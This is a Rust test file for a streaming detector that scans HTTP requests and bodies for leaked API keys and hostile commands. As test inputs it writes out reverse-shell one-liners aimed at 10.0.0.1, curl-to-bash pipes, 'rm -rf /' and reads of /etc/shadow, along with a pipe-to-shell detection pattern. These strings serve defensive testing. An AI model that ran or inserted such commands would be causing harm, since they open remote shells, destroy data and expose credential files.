//! The scanner as its callers see it: bytes in pieces, matches out.

use std::sync::{Arc, LazyLock};

use proptest::prelude::*;
use regex::bytes::{Regex, RegexBuilder};

use super::rules::{Pack, shipped};
use super::*;
use crate::finding::View;
use crate::limits::*;

/// The seed's rules.
pub(super) static RULES: LazyLock<RuleSet> = LazyLock::new(|| shipped(&["seed"]).unwrap());

/// Compiled once: the tests share it as the cores do.
pub(super) static DATABASE: LazyLock<Arc<Database>> =
    LazyLock::new(|| Arc::new(Database::compile(&RULES).unwrap()));

/// The seed's rule of this id.
pub(super) fn rule(id: &str) -> &'static Rule {
    RULES.iter().find(|rule| &*rule.id == id).unwrap()
}

pub(super) fn scanner(window_bytes: usize) -> Scanner {
    Scanner::new(&DATABASE, window_bytes).unwrap()
}

/// One rule whose matches may be longer than is looked back.
pub(super) fn wide_rule() -> RuleSet {
    let text = r"[[rules]]
id = 'pipe_to_shell'
type = 'INJECTION'
regex = '(?:curl|wget) +[^ ]+ *\| *(?:sh|bash)\b'
";
    Pack::parse("wide", text).unwrap().rules.into_iter().map(Arc::new).collect()
}

pub(super) fn wide_scanner(window_bytes: usize) -> Scanner {
    let database = Arc::new(Database::compile(&wide_rule()).unwrap());
    Scanner::new(&database, window_bytes).unwrap()
}

thread_local! {
    /// For the tests with many cases.
    pub(super) static SCANNER: Scanner = scanner(SCAN_WINDOW_MIN_BYTES);
}

/// Keeps everything.
#[derive(Default)]
pub(super) struct Seen {
    pub(super) found: Vec<(&'static str, String)>,
    /// The views in which they were seen.
    views: Vec<View>,
    wanted: usize,
    repeats_only: bool,
    gaps: Vec<Gap>,
}

impl MatchSink for Seen {
    fn wants(&mut self, _found: &Match<'_>) -> bool {
        self.wanted += 1;
        !self.repeats_only
    }

    fn found(&mut self, found: &Match<'_>, snippet: String) {
        self.found.push((&*rule(&found.rule.id).id, snippet));
        self.views.push(found.view);
    }

    fn gap(&mut self, gap: Gap) {
        self.gaps.push(gap);
    }
}

impl Seen {
    pub(super) fn names(&self) -> Vec<&'static str> {
        let mut names: Vec<_> = self.found.iter().map(|(name, _)| *name).collect();
        names.sort_unstable();
        names
    }

    pub(super) fn gaps(&self) -> &[Gap] {
        &self.gaps
    }

    pub(super) fn views(&self) -> &[View] {
        &self.views
    }

    /// Of what was seen in the bytes as they are.
    fn plain_names(&self) -> Vec<&'static str> {
        let plain = self.found.iter().zip(&self.views).filter(|(_, view)| view.is_plain());
        let mut names: Vec<_> = plain.map(|((name, _), _)| *name).collect();
        names.sort_unstable();
        names
    }

    pub(super) fn snippet(&self) -> &str {
        assert_eq!(self.found.len(), 1, "{:?}", self.found);
        &self.found[0].1
    }
}

#[test]
fn a_query_is_read_as_a_form_and_a_path_is_not() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let told = |head: &str| {
        let (mut seen, mut buffer) = (Seen::default(), PaddedBuffer::new());
        scanner.scan_request(buffer.fill(head.as_bytes()), &mut seen);
        (seen.names(), seen.views().iter().map(ToString::to_string).collect::<Vec<_>>())
    };
    let command = "curl+http%3A%2F%2Fe.example%2Fx+%7C+bash";
    let (names, views) = told(&format!("GET http://a.example/?c={command} HTTP/1.1\r\n\r\n"));
    assert_eq!((names, views), (vec!["pipe_to_shell"], vec!["form".to_owned()]));
    assert_eq!(told(&format!("GET /{command} HTTP/1.1\r\n\r\n")).0, [""; 0]);
    // What is seen as it stands is not told a second time.
    let (names, views) = told("GET /?a=b+c&f=/etc/shadow HTTP/1.1\r\n\r\n");
    assert_eq!((names, views.len()), (vec!["unix_sensitive"], 1));
}

/// Scans pieces as one stream.
pub(super) fn scan_pieces(scanner: &Scanner, pieces: &[&[u8]]) -> Seen {
    let mut seen = Seen::default();
    let mut stream = scanner.open();
    let mut buffer = PaddedBuffer::new();
    for piece in pieces {
        stream.feed(buffer.fill(piece), &mut seen);
    }
    stream.finish(&mut seen);
    seen
}

pub(super) fn scan_head(scanner: &Scanner, bytes: &[u8]) -> Seen {
    let mut seen = Seen::default();
    scanner.scan_block(PaddedBuffer::new().fill(bytes), &mut seen);
    seen
}

static EXACT: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    let compile =
        |rule: &Rule| RegexBuilder::new(rule.expression.text()).unicode(false).build().unwrap();
    RULES.iter().map(|rule| compile(rule)).collect()
});

/// What the exact expressions find in a whole text, by name.
fn oracle(text: &[u8]) -> Vec<&'static str> {
    let mut names = Vec::new();
    for (rule, exact) in RULES.iter().zip(EXACT.iter()) {
        names.extend(exact.find_iter(text).map(|_| &*rule.id));
    }
    names.sort_unstable();
    names
}

/// What they find in a text that arrives by pieces, which end at these places: what is whole is told, and what
/// comes later does not make it longer, so that it may be a match of its own.
fn oracle_of_pieces(text: &[u8], ends: &[usize]) -> Vec<&'static str> {
    let mut names = Vec::new();
    for (rule, exact) in RULES.iter().zip(EXACT.iter()) {
        let mut told = 0;
        for end in ends {
            while let Some(found) = exact.find_at(&text[..*end], told) {
                names.push(&*rule.id);
                told = found.end();
            }
        }
    }
    names.sort_unstable();
    names
}

pub(super) fn key(seed: u32) -> String {
    let mut state = seed.wrapping_mul(2_654_435_761).wrapping_add(12_345);
    let mut next = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        alphabet[(state >> 16) as usize % alphabet.len()] as char
    };
    (0..40).map(|_| next()).collect()
}

#[test]
fn examples_are_found_once_and_counter_examples_never() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    for rule in RULES.iter() {
        for text in &rule.examples {
            let count = |seen: &Seen| seen.names().iter().filter(|n| **n == &*rule.id).count();
            assert_eq!(count(&scan_head(&scanner, text.as_bytes())), 1, "{}: {text}", rule.id);
            assert_eq!(count(&scan_pieces(&scanner, &[text.as_bytes()])), 1, "{text}");
            let surrounded = format!("some words before,\n{text}\nand some behind");
            assert_eq!(count(&scan_head(&scanner, surrounded.as_bytes())), 1, "{surrounded}");
        }
        for text in &rule.negative_examples {
            assert!(!scan_head(&scanner, text.as_bytes()).names().contains(&&*rule.id), "{text}");
        }
    }
}

#[test]
fn a_match_split_anywhere_in_two_or_three_is_found_once() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    for rule in RULES.iter() {
        let text = format!("GET /?q=1 {} ;end of it", rule.examples[0]);
        let bytes = text.as_bytes();
        let expected = oracle(bytes);
        for first in 0..=bytes.len() {
            let seen = scan_pieces(&scanner, &[&bytes[..first], &bytes[first..]]);
            assert_eq!(seen.names(), expected, "{text} at {first}");
            for second in (first..=bytes.len()).step_by(3) {
                let pieces = [&bytes[..first], &bytes[first..second], &bytes[second..]];
                assert_eq!(scan_pieces(&scanner, &pieces).names(), expected, "{first} {second}");
            }
        }
        let single: Vec<&[u8]> = bytes.chunks(1).collect();
        assert_eq!(scan_pieces(&scanner, &single).names(), expected, "{text}");
    }
}

#[test]
fn a_match_across_windows_is_found_once() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    let secret = format!("sk-ant-api03-{}", key(1));
    for position in SCAN_WINDOW_MIN_BYTES - 60..SCAN_WINDOW_MIN_BYTES + 5 {
        let text = format!("{}{secret} {}", " ".repeat(position), "x".repeat(2000));
        let seen = scan_pieces(&scanner, &[text.as_bytes()]);
        assert!(seen.snippet().contains(" sk-ant-"), "{position}: {}", seen.snippet());
        assert_eq!(scan_head(&scanner, text.as_bytes()).names(), ["ai_api_key"]);
    }
}

#[test]
fn a_secret_behind_ten_mebibytes_is_found() {
    let scanner = scanner(64 * 1024);
    let mut body = vec![b'.'; 10 * 1024 * 1024];
    body.extend_from_slice(format!(" AKIA{}", "IOSFODNN7EXAMPLE").as_bytes());
    let pieces: Vec<&[u8]> = body.chunks(60_000).collect();
    let seen = scan_pieces(&scanner, &pieces);
    assert!(seen.snippet().ends_with("... AKIA..."), "{}", seen.snippet());
}

#[test]
fn one_match_with_many_ends_is_one() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    let piped = format!("curl a{}", "|sh".repeat(3000));
    let long_key = format!("sk-ant-{}", "a1B2".repeat(200));
    for text in [&piped, &long_key] {
        for piece in [1, 7, 1000, 100_000] {
            let pieces: Vec<&[u8]> = text.as_bytes().chunks(piece).collect();
            assert_eq!(scan_pieces(&scanner, &pieces).found.len(), 1, "{piece}");
        }
    }
}

#[test]
fn a_key_within_a_key_is_one_wherever_the_outer_one_is_cut() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    let text = format!("sk-ant-{}sk-live-{}", key(1), key(2));
    assert_eq!(oracle(text.as_bytes()).len(), 1);
    for split in 0..text.len() {
        let (first, second) = text.as_bytes().split_at(split);
        assert_eq!(scan_pieces(&scanner, &[first, second]).found.len(), 1, "{split}");
    }
}

#[test]
fn a_word_that_the_search_range_cuts_is_no_word() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    let rule = rule("reverse_shell");
    // The range begins at the `nc` of `xnc`, which would match up to 4444 if it were a word.
    let blanks = rule.max_width() - "nc nc4444 5555".len();
    let text = format!("xnc nc{}4444 5555", " ".repeat(blanks));
    assert!(scan_head(&scanner, text.as_bytes()).snippet().starts_with("xnc nc "));
}

#[test]
fn distinct_matches_are_told_apart() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    let text = "rm -rf /a; rm -rf /b; rm -rf /c";
    for piece in [1, 2, 5, 11, 100] {
        let pieces: Vec<&[u8]> = text.as_bytes().chunks(piece).collect();
        assert_eq!(scan_pieces(&scanner, &pieces).names(), ["destructive_rm"; 3]);
    }
    let doubled = format!("AKIA{0}AKIA{0} AKIA{0}", "IOSFODNN7EXAMPLE");
    assert_eq!(scan_head(&scanner, doubled.as_bytes()).names(), ["aws_access_key"; 3]);
}

#[test]
fn a_match_at_the_rules_width_shows_its_head_and_a_longer_one_its_end() {
    let scanner = wide_scanner(SCAN_WINDOW_MAX_BYTES);
    let rules = wide_rule();
    let rule = rules.first().unwrap();
    for (extra, head) in [(0, true), (1, false)] {
        let url = "u".repeat(rule.max_width() - "curl ".len() - " | sh".len() + extra);
        let text = format!("; curl {url} | sh");
        for piece in [100_000, 500, 1] {
            let pieces: Vec<&[u8]> = text.as_bytes().chunks(piece).collect();
            let seen = scan_pieces(&scanner, &pieces);
            assert_eq!(seen.snippet().contains("curl "), head, "{extra} {piece}");
            assert!(seen.snippet().ends_with("uuu | sh"));
        }
    }
}

#[test]
fn an_over_long_match_is_told_once_however_often_it_ends() {
    let scanner = wide_scanner(SCAN_WINDOW_MIN_BYTES);
    let text = format!("curl {}{}", "u".repeat(5000), "|sh".repeat(5000));
    for piece in [3, 1000, 100_000] {
        let pieces: Vec<&[u8]> = text.as_bytes().chunks(piece).collect();
        assert_eq!(scan_pieces(&scanner, &pieces).names(), ["pipe_to_shell"], "{piece}");
    }
}

#[test]
fn word_ends_are_decided_by_the_next_piece_or_the_end() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    let names = |pieces: &[&[u8]]| scan_pieces(&scanner, pieces).names();
    assert_eq!(names(&[b"/etc/passwd"]), ["unix_sensitive"]);
    assert_eq!(names(&[b"/etc/passwd", b" x"]), ["unix_sensitive"]);
    assert_eq!(names(&[b"/etc/passwd", b""]), ["unix_sensitive"]);
    assert!(names(&[b"/etc/passwd", b"s"]).is_empty());
    assert!(names(&[b"x", b"nc host 4444"]).is_empty());
    assert_eq!(names(&[b"-", b"nc host 4444"]), ["reverse_shell"]);
}

#[test]
fn nothing_of_a_stream_is_left_for_the_next() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    let text = b"cat /etc/passwd";
    for split in 0..text.len() {
        // Finished, and dropped without finishing: neither may lend its head to the next stream.
        assert!(scan_pieces(&scanner, &[&text[..split]]).found.is_empty());
        let mut seen = Seen::default();
        let mut stream = scanner.open();
        stream.feed(PaddedBuffer::new().fill(&text[..split]), &mut seen);
        drop(stream);
        assert!(seen.found.is_empty());
        assert!(scan_pieces(&scanner, &[&text[split..]]).found.len() <= usize::from(split < 5));
        assert_eq!(scan_pieces(&scanner, &[text]).snippet(), "cat /etc/passwd");
    }
}

#[test]
fn a_finished_stream_can_be_used_again() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    let mut seen = Seen::default();
    let mut stream = scanner.open();
    for _ in 0..3 {
        stream.feed(PaddedBuffer::new().fill(b"rm -rf /"), &mut seen);
        stream.finish(&mut seen);
        stream.finish(&mut seen);
    }
    assert_eq!(seen.names(), ["destructive_rm"; 3]);
}

#[test]
fn streams_side_by_side_do_not_mix() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    let mut seen = Seen::default();
    let mut streams: Vec<Body> = (0..SCAN_STREAMS_KEPT + 10).map(|_| scanner.open()).collect();
    let mut buffer = PaddedBuffer::new();
    for (at, byte) in b"cat /etc/shadow".iter().enumerate() {
        for (number, stream) in streams.iter_mut().enumerate() {
            // Every second stream misses one byte.
            if number % 2 == 0 || at != 7 {
                stream.feed(buffer.fill(&[*byte]), &mut seen);
            }
        }
    }
    let count = streams.len();
    streams.iter_mut().for_each(|stream| stream.finish(&mut seen));
    assert_eq!(seen.names(), vec!["unix_sensitive"; count / 2]);
}

#[test]
fn a_flood_is_bounded_said_and_does_not_hide_another_rule() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES).without_memory();
    let flood = "rm -rf / ".repeat(100_000);
    let text = format!("{flood}; cat /etc/shadow ;");
    let seen = scan_pieces(&scanner, &[text.as_bytes()]);
    // Behind the first of a flood, one here and there is looked at.
    let looked_at = |bytes: usize| SCAN_REPEATS_PER_WINDOW + bytes / SCAN_REPEATS_APART_BYTES;
    let most = looked_at(SCAN_HITS_PER_WINDOW * "rm -rf / ".len()) + 1;
    assert!((SCAN_REPEATS_PER_WINDOW + 8..=most).contains(&seen.wanted), "{}", seen.wanted);
    assert_eq!(seen.gaps, [Gap::UnconfirmedHits(100_000 - SCAN_HITS_PER_WINDOW)]);
    assert!(seen.names().contains(&"unix_sensitive"));

    let at_bound = "rm -rf / ".repeat(SCAN_HITS_PER_WINDOW);
    assert_eq!(scan_pieces(&scanner, &[at_bound.as_bytes()]).gaps.len(), 0);
    let few = "rm -rf / ".repeat(SCAN_REPEATS_PER_WINDOW);
    assert_eq!(scan_pieces(&scanner, &[few.as_bytes()]).wanted, SCAN_REPEATS_PER_WINDOW);

    let pieces: Vec<&[u8]> = flood.as_bytes().chunks(16 * 1024).collect();
    let mut seen = Seen { repeats_only: true, ..Seen::default() };
    let mut stream = scanner.open();
    let mut buffer = PaddedBuffer::new();
    let most = pieces.len() * looked_at(16 * 1024);
    for piece in pieces {
        stream.feed(buffer.fill(piece), &mut seen);
    }
    assert!(seen.wanted <= most && seen.found.is_empty() && seen.gaps.is_empty());
}

#[test]
fn each_secret_of_a_flood_is_told() {
    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
    let count = u32::try_from(2 * SCAN_REPEATS_PER_WINDOW).unwrap();
    let keys: String = (0..count).map(|seed| format!("sk-ant-api03-{} ", key(seed))).collect();
    assert_eq!(scan_pieces(&scanner, &[keys.as_bytes()]).names().len(), count as usize);
}

#[test]
fn each_length_up_to_a_page_is_scanned_whole() {
    let scanner = scanner(64 * 1024);
    for length in (0..4096).step_by(13).chain(0..80) {
        let text = format!("{}/etc/passwd", "x".repeat(length));
        assert_eq!(scan_head(&scanner, text.as_bytes()).names(), ["unix_sensitive"], "{length}");
    }
}

/// Pieces of matches, near misses and noise.
fn fragment() -> impl Strategy<Value = String> {
    let examples: Vec<&'static str> = RULES
        .iter()
        .flat_map(|rule| rule.examples.iter().chain(&rule.negative_examples))
        .map(String::as_str)
        .collect();
    let parts: Vec<&'static str> = vec![
        "nc ",
        "nc",
        " 22",
        "curl ",
        "|sh",
        " | bash",
        "sk-ant-",
        "AKIA",
        "0123456789ABCDEF",
        "ssh-rsa ",
        "\n",
        " ",
        "echo ",
        "rm ",
        "-rf ",
        "/",
        "bash -c ",
        "'",
        "/etc/",
        "passwd",
        "é",
        "\u{0}",
        "x|sh|bash",
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmn",
    ];
    prop_oneof![
        3 => proptest::sample::select(examples).prop_map(str::to_owned),
        5 => proptest::sample::select(parts).prop_map(str::to_owned),
        1 => "[ -~]{0,20}",
        1 => (0usize..600).prop_map(|length| "z".repeat(length)),
    ]
}

#[test]
fn what_another_reading_sees_within_a_match_is_told_once() {
    // The reading without the NUL begins behind the front of what the text itself shows.
    for (shown, name) in [
        ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f", "reverse_shell"),
        (
            concat!("sk-ant-zzzzzzzzzzzzzzzzzzzzzzzzzzzzzz", "SK-LIVE-EXAMPLE_EXAMPLE_EXAMPLE"),
            "ai_api_key",
        ),
    ] {
        for blanks in 0..300 {
            let text = format!("text: {shown} {}wo\0rd", " .".repeat(blanks));
            assert_eq!(oracle(text.as_bytes()), [name]);
            let seen = SCANNER.with(|scanner| scan_head(scanner, text.as_bytes()));
            assert_eq!(seen.names(), [name], "{blanks}");
        }
    }
}

#[test]
fn what_another_reading_shows_behind_a_match_that_is_shorter_in_it_is_told() {
    let first = format!("curl https://x.example/{}|sh", "%41".repeat(40));
    let text = format!("text: {first};\nc%75rl https://y.example/b|sh\n");
    assert_eq!(oracle(text.as_bytes()), ["pipe_to_shell"]);
    let seen = SCANNER.with(|scanner| scan_head(scanner, text.as_bytes()));
    assert_eq!(seen.names(), ["pipe_to_shell"; 2]);
}

#[test]
fn what_came_by_pieces_and_would_be_longer_in_one_is_told_apart() {
    let parts = [
        r#"text: ruby -rsocket -e "f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec "#,
        r#"sprintf(1)"s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0)"#,
        "nc -nv -e /bin/sh 10.0.0.1 4444",
    ];
    let text = parts.concat();
    assert_eq!(oracle(text.as_bytes()), ["reverse_shell"]);
    let (first, second) = text.as_bytes().split_at(parts[0].len());
    let seen = SCANNER.with(|scanner| scan_pieces(scanner, &[first, second]));
    assert_eq!(seen.plain_names(), oracle_of_pieces(text.as_bytes(), &[first.len(), text.len()]));
    assert!(seen.plain_names().len() > 1);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: ProptestConfig::default().cases.max(400), failure_persistence: None, ..Default::default() })]

    /// The engine and the exact expressions agree, however the text is cut.
    #[test]
    fn engine_and_oracle_agree(
        fragments in proptest::collection::vec(fragment(), 0..14),
        cuts in proptest::collection::vec(any::<prop::sample::Index>(), 0..6),
    ) {
        // Begins as text, so that nothing takes the place of the bytes as they are.
        let text = format!("text: {}", fragments.concat()).into_bytes();
        let expected = oracle(&text);
        let head = SCANNER.with(|scanner| scan_head(scanner, &text));
        // What goes on at the end of a window another reading of it may tell first.
        if head.names() != expected {
            prop_assert_eq!(head.plain_names(), expected.clone());
        }
        let mut places: Vec<usize> = cuts.iter().map(|cut| cut.index(text.len() + 1)).collect();
        places.extend([0, text.len()]);
        places.sort_unstable();
        let pieces: Vec<&[u8]> = places.windows(2).map(|ends| &text[ends[0]..ends[1]]).collect();
        let seen = SCANNER.with(|scanner| scan_pieces(scanner, &pieces));
        if seen.names() != expected && seen.plain_names() != oracle_of_pieces(&text, &places) {
            prop_assert_eq!(seen.plain_names(), expected, "{:?}", pieces);
        }
        for (_, snippet) in &seen.found {
            prop_assert!(snippet.chars().count() <= SNIPPET_CHARS);
            prop_assert!(!snippet.chars().any(char::is_control));
        }
    }

    /// Bytes of any kind neither panic nor disagree.
    #[test]
    fn any_bytes_are_scanned(bytes in proptest::collection::vec(any::<u8>(), 0..3000)) {
        let seen = SCANNER.with(|scanner| scan_head(scanner, &bytes));
        prop_assert_eq!(seen.names(), oracle(&bytes));
    }
}

#[test]
fn a_text_that_events_are_joined_to_holds_no_stream_of_its_own() {
    let scanner = scanner(SCAN_WINDOW_MIN_BYTES);
    let names = |content_type: &[u8], text: &str| {
        let mut seen = Seen::default();
        let mut body = scanner.body(&Shape::new(std::iter::empty(), Some(content_type)));
        body.feed(PaddedBuffer::new().fill(text.as_bytes()), &mut seen);
        body.finish(&mut seen);
        seen.names()
    };
    let array = r#"[{"a":"cat /etc/pass"},{"a":"wd now"}]"#;
    assert_eq!(names(b"application/json", array), ["unix_sensitive"]);
    let event = format!("data: {{\"t\":\"{}\"}}\n\n", array.replace('"', "\\\""));
    assert!(names(b"text/event-stream", &event).is_empty());
    let whole = r#"data: {"t":"[\"cat /etc/passwd now\"]"}"#;
    assert_eq!(names(b"text/event-stream", &format!("{whole}\n\n")), ["unix_sensitive"]);
}
